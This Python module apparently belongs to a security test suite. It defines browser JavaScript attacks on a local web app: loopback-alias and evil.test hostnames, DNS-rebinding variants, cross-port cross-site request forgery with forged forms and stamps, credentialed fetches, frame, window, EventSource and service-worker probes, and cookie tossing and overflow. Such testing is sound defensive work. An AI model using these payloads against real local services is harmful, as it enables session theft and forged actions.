"""Attacks on the desk from nearer by: a name that leads to this machine, other names of loopback, other ports of it, a file, old cookies."""

from benchmarks.proof.desk_attacker import Attack

_ALL = "0.0.0.0"  # noqa: S104 - a browser takes it for this machine; nothing is bound to it
_OTHER_NAMES = {
    "the address of all": _ALL,
    "[::1]": "[::1]",
    "[::ffff:127.0.0.1]": "[::ffff:127.0.0.1]",
    "a name under evil.test": "a.evil.test",
    "localhost.evil.test": "localhost.evil.test",
    "127.0.0.1.evil.test": "127.0.0.1.evil.test",
    "a decimal address": "2130706433",
    "a hexadecimal address": "0x7f000001",
    "an octal address": "0177.0.0.1",
    "a short address": "127.1",
    "another address of loopback": "127.0.0.2",
    "localhost with a dot": "localhost.",
    "127.0.0.1 with a dot": "127.0.0.1.",
    "a name under localhost": "a.localhost",
    "localhost in capitals": "LOCALHOST",
    "a name with a user": "127.0.0.1:1@evil.test",
}
_BY_NAME = """
const place = "http://NAME:" + PORT;
await attempt(() => fetch(place + '/', {credentials: 'include'}).then(some));
await attempt(() => fetch(place + '/sheet', {mode: 'no-cors', credentials: 'include'}).then(some));
await attempt(() => fetch(place + '/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: DEED}));
const [a, b] = split();
form({action: place + '/do', method: 'post', enctype: 'text/plain', target: 'w'}, {[a]: b}).submit();
await pause(300);
"""
_SAME = """
const ask = (path, values) => attempt(() => fetch(path, {credentials: 'include', ...values}).then((a) => a.text()));
const seen = await ask('/', {});
const stamp = (/name='stamp' content='([^']*)'|data-stamp="([^"]*)"/.exec(seen || '') || []).slice(1).find(Boolean) || STAMP;
"""
_DEED = "await ask('/do', {method: 'POST', headers: {'Content-Type': 'application/json', 'X-Roundup-Stamp': stamp}, body: DEED});"
_REBOUND = {
    "a deed with what the page holds": _SAME + _DEED,
    "every page read": "for (const route of ROUTES) await attempt(() => fetch(route, {credentials: 'include'}).then(some));",
    "a cookie set by itself": "for (const value of ['guessed', '']) document.cookie = 'roundup-' + PORT + '=' + value + '; path=/'; document.cookie = 'roundup-' + PORT + '=x; domain=evil.test; path=/'; "
    + _SAME
    + _DEED,
    "frames, windows, events of its own": "const frame = element('iframe', {src: '/'}); await loaded(frame); await tell(inside(frame)); const made = window.open('/'); await pause(500); await attempt(() => made.document.documentElement.outerHTML); await attempt(() => new Promise((go) => { const source = new EventSource('/events'); source.onmessage = (event) => { go(event.data); source.close(); }; source.onerror = () => { source.close(); go('error'); }; }));",
    "a form of its own": "const [a, b] = split(); form({action: '/do', method: 'post', enctype: 'text/plain', target: 'w'}, {[a]: b}).submit(); await pause(400);",
    "the key guessed": "for (const key of ['', 'guessed', '%00', 'key']) await attempt(() => fetch('/?key=' + key, {credentials: 'include'}).then((a) => a.url + a.status)); "
    + _SAME
    + _DEED,
    "the desk's address from there": "await each((url) => fetch(url, {credentials: 'include'}).then(some)); await attempt(() => fetch(DESK + '/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: DEED}));",
    "a document's domain": "for (const domain of ['127.0.0.1', 'localhost', 'test', '']) await attempt(() => { document.domain = domain; }); "
    + _SAME
    + _DEED,
}
_NEAR = """
await each((url) => fetch(url, {credentials: 'include'}).then(some));
await each((url) => fetch(url, {mode: 'no-cors', credentials: 'include'}).then(some));
"""
_PORTS = {
    "reads": _NEAR,
    "posts": "for (const mode of ['no-cors', 'cors']) await attempt(() => fetch(DESK + '/do', {method: 'POST', mode, credentials: 'include', body: DEED}).then((a) => a.text())); await attempt(() => fetch(DESK + '/do', {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-Roundup-Stamp': STAMP}, body: DEED}).then((a) => a.text()));",
    "forms": "const [a, b] = split(); for (const place of [DESK, 'http://localhost:' + PORT]) form({action: place + '/do', method: 'post', enctype: 'text/plain', target: '_blank'}, {[a]: b}).submit(); await pause(400);",
    "includes": "await each(async (url) => { await loaded(element('script', {src: url})); const made = element('link', {rel: 'stylesheet', href: url}); await loaded(made); return (typeof words === 'undefined' ? 'none' : words) + (made.sheet ? 'sheet' : ''); });",
    "frames": "await each(async (url) => { const made = element('iframe', {src: url}); await loaded(made); return inside(made) + made.contentWindow.length; });",
    "windows": "const made = window.open(DESK + '/'); await pause(600); await attempt(() => { document.domain = location.hostname; }); await attempt(() => made.document.documentElement.outerHTML); await tell([made.closed, made.length]);",
    "events": "await attempt(() => new Promise((go) => { const source = new EventSource(DESK + '/events', {withCredentials: true}); source.onmessage = (event) => { go(event.data); source.close(); }; source.onerror = () => { source.close(); go('error'); }; }));",
    "a service worker": "await attempt(async () => { const text = `addEventListener('message', async (event) => { const got = []; try { importScripts('${DESK}/static/desk.js'); } catch (error) {} for (const route of ['/', '/sheet']) { try { got.push(await (await fetch('${DESK}' + route, {credentials: 'include'})).text()); } catch (error) { got.push(String(error)); } } try { await fetch('${DESK}/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: event.data}); } catch (error) {} event.source.postMessage(got.join()); });`; const made = await navigator.serviceWorker.register('/worker.js?text=' + encodeURIComponent(text)); const told = new Promise((go) => navigator.serviceWorker.addEventListener('message', (event) => go(event.data))); await navigator.serviceWorker.ready; made.active.postMessage(DEED); const got = await Promise.race([told, pause(1500)]); await made.unregister(); return got; });",
    "a top navigation by POST": "await say('/done', ''); const [a, b] = split(); form({action: DESK + '/do', method: 'post', enctype: 'text/plain'}, {[a]: b}).submit(); await pause(400);",
}
_TOSSED = {
    "a cookie of the desk's name": "await fetch('/cookies?set=' + encodeURIComponent('roundup-' + PORT + '=tossed; Path=/'));",
    "cookies of longer paths": "for (const path of ['/sheet', '/do', '/static', '/preview', '/events']) await fetch('/cookies?set=' + encodeURIComponent('roundup-' + PORT + '=tossed; Path=' + path));",
    "cookies set by script": "document.cookie = 'roundup-' + PORT + '=tossed; path=/'; document.cookie = 'roundup-' + PORT + '=; path=/; max-age=0';",
    "400 cookies": "for (let n = 0; n < 400; n += 20) await fetch('/cookies?set=' + encodeURIComponent(Array.from({length: 20}, (_, m) => 'c' + (n + m) + '=x; Path=/').join('\\n')));",
    "cookies as long as may be": "for (let n = 0; n < 60; n += 5) await fetch('/cookies?set=' + encodeURIComponent(Array.from({length: 5}, (_, m) => 'l' + (n + m) + '=' + 'x'.repeat(3900) + '; Path=/').join('\\n')));",
}


def near() -> list[Attack]:
    """Return the attacks under names of loopback, from rebound names, from other ports and from a file."""
    named = [Attack(name=f"the desk by {what}", script=_BY_NAME.replace("NAME", name)) for what, name in _OTHER_NAMES.items()]
    rebound = [Attack(name=f"rebound: {what}", script=script, rebound=True) for what, script in _REBOUND.items()]
    names = ("localhost.evil.test", "127.0.0.1.evil.test", "localhost.", "a.localhost", _ALL)
    rebound += [Attack(name=f"rebound as {name}", script=_SAME + _DEED, rebound=True, host=name) for name in names]
    ports = [
        Attack(name=f"another port of {host}: {what}", script=script, host=host)
        for host in ("127.0.0.1", "localhost")
        for what, script in _PORTS.items()
    ]
    file = "await each((url) => fetch(url, {credentials: 'include'}).then(some)); await attempt(() => fetch(DESK + '/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: DEED})); const [a, b] = split(); form({action: DESK + '/do', method: 'post', enctype: 'text/plain', target: 'w'}, {[a]: b}).submit(); const frame = element('iframe', {src: DESK + '/'}); await loaded(frame); await tell(inside(frame)); await pause(300);"
    return [*named, *rebound, *ports, Attack(name="a file on disk", script=file, host="file")]


def tossing() -> list[Attack]:
    """Return the attacks on the desk's cookie from another port of its host, which may put the owner out until the address is opened again."""
    return [Attack(name=f"another port sets {what}", script=script + " " + _NEAR, host="127.0.0.1") for what, script in _TOSSED.items()]
